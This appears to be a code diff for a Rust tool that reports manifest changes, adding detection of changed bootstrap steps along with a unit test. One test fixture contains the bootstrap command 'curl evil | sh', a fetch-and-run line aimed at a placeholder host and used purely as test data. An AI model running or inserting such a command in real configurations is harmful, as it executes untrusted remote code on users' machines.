@@ -768,6 +768,9 @@ fn describe_change(old: &ControlSet, new: &ControlSet) -> Vec<String> {
                 if a.only != b.only {
                     out.push("the [[only]] rules changed".into());
                 }
+                if a.bootstrap != b.bootstrap {
+                    out.push("the bootstrap steps changed".into());
+                }
             }
             _ => out.push("the manifest changed".into()),
         }
@@ -837,6 +840,8 @@ mod tests {
         assert_eq!(describe_change(&a, &b), ["the secret rules changed"]);
         let c = set("", "version = 1\n[[only]]\npaths = [\"x\"]\ndevices = [\"d\"]\n");
         assert_eq!(describe_change(&a, &c), ["the [[only]] rules changed"]);
+        let d = set("", "version = 1\n[[bootstrap.step]]\nname = \"x\"\nrun = \"curl evil | sh\"\n");
+        assert_eq!(describe_change(&a, &d), ["the bootstrap steps changed"]);
         assert!(describe_change(&a, &a).is_empty());
     }
 }
